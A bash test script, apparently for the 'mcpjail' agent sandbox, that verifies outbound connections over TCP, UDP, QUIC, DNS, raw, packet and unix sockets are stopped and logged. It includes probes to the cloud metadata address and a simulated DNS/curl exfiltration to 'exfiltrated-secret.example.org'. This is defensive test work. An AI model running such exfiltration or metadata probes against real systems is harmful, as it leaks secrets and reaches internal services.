#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# Each attempt first reaches the small internet from outside the jail, then nothing from inside.
. "$(dirname "$0")/../lib.sh"
here=$ROOT/tests/jail
PROBE=$BUILD/tests/jail/probe
if [ "${1:-}" != inside ]; then
	export ARRIVALS=$TMP/arrivals
	"$here/in_small_internet.sh" "$ARRIVALS" "$here/${0##*/}" inside >"$TMP/tap" 2>"$TMP/err"
	status=$?
	tests=$(grep -cE '^(not )?ok ' "$TMP/tap")
	grep -vE '^1\.\.' "$TMP/tap"
	is $status 0 "the small internet was made and taken down" || note "$(tail -5 "$TMP/err")"
	exit
fi
LOG=$ARRIVALS

# name | attempt and target | what the ledger must hold, or -
rows='tcp v4|tcp 192.0.2.10 443|192.0.2.10:443
tcp v4, another port|tcp 198.51.100.7 40000|198.51.100.7:40000
tcp v6|tcp 2001:db8:1::5 443|2001:db8:1::5:443
tcp v6, another port|tcp 2001:db8:1::5 8443|2001:db8:1::5:8443
tcp to a private address|tcp 10.99.0.1 80|10.99.0.1:80
tcp to the metadata service|tcp 169.254.169.254 80|169.254.169.254:80
tcp to the neighbour|tcp 203.0.113.250 22|203.0.113.250:22
dns over tcp|tcp 8.8.8.8 53|-
dot|tcp 1.1.1.1 853|1.1.1.1:853
mptcp|mptcp 192.0.2.11 443|192.0.2.11:443
udp|udp 203.0.113.9 40000|203.0.113.9:40000
quic|udp 192.0.2.10 443|192.0.2.10:443
ntp|udp 2001:db8:1::123 123|2001:db8:1::123:123
dns to a public resolver|dns 8.8.8.8 53|-
dns to another|dns 1.1.1.1 53|-
dns v6|dns 2001:4860:4860::8888 53|-
dns to the neighbour|dns 203.0.113.250 53|-
fastopen by sendto|fastopen 192.0.2.12 443|-
fastopen by sendmsg|fastopen-sendmsg 192.0.2.12 443|-
ping|ping 192.0.2.13 0|-
raw|raw 192.0.2.13 0|-
io_uring connect|io_uring 192.0.2.14 443|-
packet socket|packet|-
packet socket by a truncated family|packet-truncated|-
vsock|vsock|-
alg|alg|-'

n_arrivals() { grep -c . "$LOG"; }
inside=$TMP/inside.sh
: >"$inside"
declare -A outside
while IFS='|' read -r name attempt _; do
	# raw and packet sockets are root's: an unprivileged control cannot open them
	# shellcheck disable=SC2086
	outside[$name]=$("$PROBE" $attempt 2>&1)
	printf 'echo "%s|$(%s %s 2>&1)"\n' "$name" "$PROBE" "$attempt" >>"$inside"
done <<<"$rows"
sleep 0.3
before=$(n_arrivals)
"$MCPJAIL" -q --run-dir "$TMP/run" -- sh "$inside" >"$TMP/results" 2>"$TMP/err"
is $? 0 "the probes ran in the jail" || note "$(cat "$TMP/err")"
sleep 0.3
after=$(n_arrivals)

while IFS='|' read -r name attempt record; do
	control=${outside[$name]}
	result=$(grep -F "$name|" "$TMP/results" | head -1)
	result=${result#*|}
	case $attempt in
	raw* | packet*) [ "$(id -u)" = 0 ] || control="reached (root only)" ;;
	alg | vsock) [[ $control == stopped*EAFNOSUPPORT ]] && control="reached (not in this kernel)" ;;
	esac
	like "$control" '^reached' "$name: possible outside ($control)"
	case $attempt in
	ping*) like "$result" '^stopped' "$name: stopped in the jail" ;;
	*) unlike "$result" '^reached small-internet|^reached 192.0.2.53|socket$|^$' "$name: not reached from the jail ($result)" ;;
	esac
	[ "$record" = - ] && continue
	python3 - "$TMP/run/ledger.jsonl" "$record" <<'P'
import json, sys
wanted = sys.argv[2]
seen = ["%s:%s" % (r.get("address") or r.get("host"), r.get("port"))
        for r in map(json.loads, open(sys.argv[1])) if r["type"] == "net.denied"]
sys.exit(wanted not in seen)
P
	ok $? "$name: the attempt is in the ledger"
done <<<"$rows"
is "$after" "$before" "nothing arrived in the small internet" || note "$(tail -n +"$((before + 1))" "$LOG")"

# DNS names that carry data
"$MCPJAIL" -q -- sh -c 'getent hosts exfiltrated-secret.example.org >/dev/null; curl -m 3 -s https://exfiltrated-secret.example.org/ >/dev/null; true'
unlike "$(cat "$LOG")" exfiltrated "no name that was looked up in the jail leaves it"

# https to another host, plain http, and a proxy the agent was told of
out=$("$MCPJAIL" -q -- curl -sS -m 5 -i https://example.org/ 2>&1)
like "$out" '403' "https to another host is answered 403"
like "$out" '^mcpjail: .*example\.org' "with words that name it"
like "$("$MCPJAIL" -q -- curl -sS -m 5 http://192.0.2.10/ 2>&1)" '^mcpjail: .*192\.0\.2\.10' "so is plain http to an address"
like "$("$MCPJAIL" -q -- curl -sS -m 5 -x http://192.0.2.10:3128 https://example.org/ 2>&1)" '^mcpjail: .*example\.org|403' "so is CONNECT through a proxy"
is "$(n_arrivals)" "$before" "still nothing arrived"

# The host's loopback and unix sockets
python3 - "$TMP" <<'P' &
import socket, sys, time, os
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(); open(sys.argv[1] + "/port", "w").write(str(s.getsockname()[1]))
socks = [s]
for path in ("/tmp/mcpjail-probe-%d.sock" % os.getppid(), "/run/mcpjail-probe-%d.sock" % os.getppid()):
    try:
        u = socket.socket(socket.AF_UNIX); u.bind(path); u.listen(); os.chmod(path, 0o777); socks.append(u)
    except OSError:
        pass
a = socket.socket(socket.AF_UNIX); a.bind("\0mcpjail-probe"); a.listen(); socks.append(a)
open(sys.argv[1] + "/listening", "w").write("x")
import select
end = time.time() + 30
while time.time() < end:
    for r in select.select(socks, [], [], 0.2)[0]:
        c, _ = r.accept(); c.sendall(b"host-socket\n"); c.close()
P
server=$!
children+=("$server")
for _ in $(seq 100); do [ -e "$TMP/listening" ] && break; sleep 0.05; done
hostport=$(cat "$TMP/port")
for attempt in "tcp 127.0.0.1 $hostport" "unix /tmp/mcpjail-probe-$$.sock" "unix /run/mcpjail-probe-$$.sock" "abstract mcpjail-probe"; do
	case $attempt in */run/*) [ -S "/run/mcpjail-probe-$$.sock" ] || continue ;; esac
	# shellcheck disable=SC2086
	like "$("$PROBE" $attempt)" 'reached host-socket' "$attempt: possible outside"
	# shellcheck disable=SC2086
	like "$("$MCPJAIL" -q -- "$PROBE" $attempt)" '^stopped' "$attempt: stopped in the jail"
done
like "$("$MCPJAIL" -q -- "$PROBE" unix-datagram "/tmp/mcpjail-probe-$$.sock")" '^stopped socketpair' "unix datagrams are refused"
rm -f "/tmp/mcpjail-probe-$$.sock" "/run/mcpjail-probe-$$.sock" 2>/dev/null
